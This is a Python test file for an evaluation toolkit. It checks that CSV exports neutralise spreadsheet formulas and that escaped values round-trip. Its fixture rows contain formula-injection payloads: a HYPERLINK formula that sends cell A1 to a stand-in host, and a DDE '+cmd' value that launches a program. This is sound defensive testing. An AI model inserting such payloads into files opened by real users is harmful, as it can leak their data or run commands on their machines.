"""What evalkit writes as CSV is data to a spreadsheet, never a formula, and comes back as it was."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalkit.cli import main
from evalkit.runs.records import as_csv, escaped, unescaped

FORMULA = '=HYPERLINK("http://x.test?"&A1,"open")'
ROWS = [
    {
        "id": "=1+1",
        "prompt": FORMULA,
        "response_a": "+cmd|' /C calc'!A0",
        "response_b": "@SUM(1)",
        "winner": "A",
        "order": order,
        "text": "\t=x",
        "judge": "-j",
        "label": "A",
    }
    for order in ("ab", "ba")
]


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    Path("judged.jsonl").write_text("".join(json.dumps(row) + "\n" for row in ROWS), "utf-8")
    words = ["import", "generic", "judged.jsonl", "tracking=none", "scoring.bootstrap=20", "hydra.run.dir=run"]
    assert main(words) == 0
    return tmp_path / "run"


def cells(file: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.read_text("utf-8"), newline="")))


def test_an_export_has_no_formulas_and_comes_back(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", str(run), "--to", "csv", "--output", "out.csv"]) == 0
    found = cells(Path("out.csv"))
    texts = [cell for row in found for cell in row if cell and cell[0] in "=+-@\t\r\n"]
    assert [cell for cell in texts if not cell.lstrip("-").replace(".", "").isdigit()] == []
    assert "'" + FORMULA in found[1]
    words = ["import", "generic", "out.csv", "tracking=none", "scoring.bootstrap=20", "hydra.run.dir=again"]
    assert main(words) == 0
    before, after = (json.loads((folder / "cases.jsonl").read_text("utf-8")) for folder in (run, Path("again")))
    for case in (before, after):
        case["responses"] = [response["text"] for response in case["responses"]]
    assert before == after
    assert (
        json.loads(Path("again/metrics.json").read_text())["metrics"]
        == json.loads((run / "metrics.json").read_text())["metrics"]
    )


def test_raw_keeps_texts(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", str(run), "--to", "csv", "--raw", "--output", "out.csv"]) == 0
    assert FORMULA in cells(Path("out.csv"))[1]
    assert main(["export", str(run), "--to", "parquet", "--raw"]) == 1
    assert "--raw: is only for csv" in capsys.readouterr().err


def test_labels_of_an_escaped_id_are_read(run: Path) -> None:
    Path("labels.csv").write_text(
        as_csv(["id", "annotator", "label"], [{"id": "=1+1", "annotator": "@ann", "label": "B"}])
    )
    assert "'=1+1" in Path("labels.csv").read_text("utf-8")
    assert main(["label", "run", "labels.csv"]) == 0
    (case,) = [json.loads(line) for line in (run / "cases.jsonl").read_text("utf-8").splitlines()]
    assert case["labels"] == {"@ann": "B"}


def test_a_comparison_has_no_formulas(run: Path) -> None:
    words = ["import", "generic", "judged.jsonl", "tracking=none", "--judge", "=2+2", "hydra.run.dir=other"]
    Path("judged.jsonl").write_text(
        "".join(json.dumps({k: v for k, v in row.items() if k != "judge"}) + "\n" for row in ROWS), "utf-8"
    )
    assert main(words) == 0
    assert main(["compare", "run", "other"]) == 0
    names = {cell for row in cells(Path("comparison.csv")) for cell in row if "2+2" in cell}
    assert names == {"'=2+2"}


@given(st.text(alphabet="'=+-@\t\r\n＝a1.e", max_size=8) | st.floats(allow_nan=False) | st.integers() | st.none())
def test_escaping_can_be_undone(value: object) -> None:
    shown = escaped(value)
    assert unescaped(shown) == value
    if not isinstance(value, str):
        assert shown == value
    elif shown[:1] in tuple("=+-@\t\r\n＝"):
        float(shown)  # numbers alone stay as they are
